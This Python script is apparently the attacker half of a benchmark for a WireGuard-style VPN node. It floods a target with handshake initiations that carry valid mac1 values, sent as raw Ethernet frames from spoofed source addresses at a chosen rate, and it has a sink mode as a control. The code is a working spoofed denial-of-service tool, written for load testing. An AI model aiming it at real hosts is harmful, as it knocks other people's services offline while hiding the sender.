"""The attacker of `./run bench flood`, run on its machine, and the target's socket for the control.

    python spoof.py flood INTERFACE MAC ADDRESS PORT KEY SOURCES RATE     until SIGTERM; then prints what it has sent
    python spoof.py sink PORT                                             until SIGTERM

`flood` sends handshake initiations for the node with this public KEY (hexadecimal) to the hardware address MAC and
ADDRESS:PORT, RATE in each second, in turn from SOURCES addresses and ports that are nobody's. Each has a right mac1 of
its own; what is sealed in it is not, since the attacker is no member. It says `begun` when it starts to send, and
{"sent": frames, "seconds": for how long, "cpu": its processor time} at the end. `sink` holds a UDP port that it never
reads, so the kernel drops there what comes: all that a frame costs except what the target does with it.

Needs nothing but Python, and is not imported by the benchmark.
"""

from __future__ import annotations

import hashlib
import json
import signal
import socket
import struct
import sys
import time
from itertools import cycle, islice

SOURCE = 0x0A420000
"""The first spoofed address, 10.66.0.0."""
FIRST_PORT = 1024
STEP = 0.001
"""Seconds between two bursts. Less is more even, and costs the attacker more of the processor."""
ENDS = {signal.SIGTERM}


def initiation(key: bytes, number: int) -> bytes:
    """Return an initiation whose mac1 is right for the node with this key (paper, section 5.4.4)."""
    head = bytes([1, 0, 0, 0]) + struct.pack("<I", number) + hashlib.shake_128(struct.pack("<I", number)).digest(108)
    mac1 = hashlib.blake2s(head, key=hashlib.blake2s(b"mac1----" + key).digest(), digest_size=16).digest()
    return head + mac1 + bytes(16)


def frame(payload: bytes, number: int, mac: bytes, target: tuple[str, int]) -> bytes:
    """Return an Ethernet frame with the datagram, from the source of this number (RFC 791, RFC 768)."""
    udp = struct.pack("!4H", FIRST_PORT + number, target[1], 8 + len(payload), 0)  # 0: without a checksum
    start = struct.pack("!BBHHHBB", 0x45, 0, 28 + len(payload), 0, 0, 64, socket.IPPROTO_UDP)
    addresses = struct.pack("!I", SOURCE + number) + socket.inet_aton(target[0])
    header = start + struct.pack("!H", checksum(start + addresses)) + addresses
    return mac + bytes.fromhex("020000000001") + b"\x08\0" + header + udp + payload


def checksum(data: bytes) -> int:
    """Return the Internet checksum of an even number of bytes (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - ((total & 0xFFFF) + (total >> 16))


def flood(tap: socket.socket, frames: list[bytes], rate: int) -> None:
    """Send the frames in turn until SIGTERM; what falls behind the rate is made up for in the next step.

    SIGTERM is blocked and only looked for between two bursts, so that each frame that has left is counted.
    """
    endless, began, sent = cycle(frames), time.monotonic(), 0
    print("begun", flush=True)
    while signal.sigtimedwait(ENDS, STEP) is None:
        due = int((time.monotonic() - began) * rate)
        for each in islice(endless, due - sent):
            tap.send(each)
        sent = due
    seconds = time.monotonic() - began
    print(json.dumps({"sent": sent, "seconds": seconds, "cpu": time.process_time()}), flush=True)


def sink(port: int) -> None:
    """Hold a port and read nothing, with the smallest buffer there is."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 0)
        udp.bind(("0.0.0.0", port))
        signal.pause()


def main(words: list[str]) -> None:
    """Make the frames, then send them."""
    signal.pthread_sigmask(signal.SIG_BLOCK, ENDS)
    interface, mac, address, port, key, sources, rate = words
    knocks = (initiation(bytes.fromhex(key), number) for number in range(int(sources)))
    hardware, target = bytes.fromhex(mac.replace(":", "")), (address, int(port))
    frames = [frame(knock, number, hardware, target) for number, knock in enumerate(knocks)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as tap:
        tap.bind((interface, 0))
        flood(tap, frames, int(rate))


if __name__ == "__main__":
    if sys.argv[1] == "sink":
        sink(int(sys.argv[2]))
    else:
        main(sys.argv[2:])
